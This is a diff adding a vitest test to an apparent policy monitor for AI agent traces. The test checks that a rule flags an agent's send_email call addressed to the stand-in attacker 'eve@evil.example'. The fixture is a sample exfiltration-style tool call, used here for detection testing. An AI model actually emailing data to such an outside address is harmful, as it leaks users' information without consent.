@@ -1,4 +1,8 @@
 import { describe, expect, it } from 'vitest';
+import { blocksToEvents } from '../convert/blocks-to-events.js';
+import { entryToBlocks } from '../convert/entry-to-blocks.js';
+import { eventsToBlocks } from '../convert/events-to-blocks.js';
+import type { Block } from '../model/index.js';
 import { parsePolicy } from './parse-policy.js';
 import { PolicyError } from './policy-error.js';
 import { PolicyViolationError } from './policy-violation-error.js';
@@ -652,4 +656,46 @@ describe('policies read each tool output under the call the trace shows it under
       expect(monitor.append(trace.slice(4)).errors).toHaveLength(1);
     });
   }
+});
+
+describe("a seed-004 entry's positional arguments", () => {
+  it('are searched by `in` on the call, as converted to events', () => {
+    const entry = {
+      call: {
+        call_id: 'e1',
+        tool_name: 'send_email',
+        args: ['eve@evil.example'],
+        kwargs: { body: 'x' },
+        timestamp: '2024-05-15T10:00:01Z',
+        session_id: 's1',
+        metadata: {},
+      },
+      result: {
+        call_id: 'e1',
+        tool_name: 'send_email',
+        status: 'success' as const,
+        return_value: 'sent',
+        exception: null,
+        exception_type: null,
+        execution_time_ms: 3,
+        retry_count: 0,
+        validations: [],
+        hallucination: null,
+        cost: null,
+        timestamp: '2024-05-15T10:00:02Z',
+      },
+    };
+    const message = eventsToBlocks([{ role: 'user', content: 'mail' }], { traceId: 'tr' })[0];
+    const [callBlock, resultBlock] = entryToBlocks(entry, {
+      traceId: 'tr',
+      parentBlockId: message?.id ?? '',
+    });
+    const events = blocksToEvents([message, callBlock, resultBlock] as Block[]);
+    const errors = parsePolicy(
+      'raise "evil" if:\n  (call: ToolCall)\n  "evil.example" in call\n',
+    ).check(events).errors;
+    expect(errors.map((e) => e.addresses)).toEqual([
+      ['1.tool_calls.0', '1.tool_calls.0.tracewarden.payload.args.0:4-16'],
+    ]);
+  });
 });
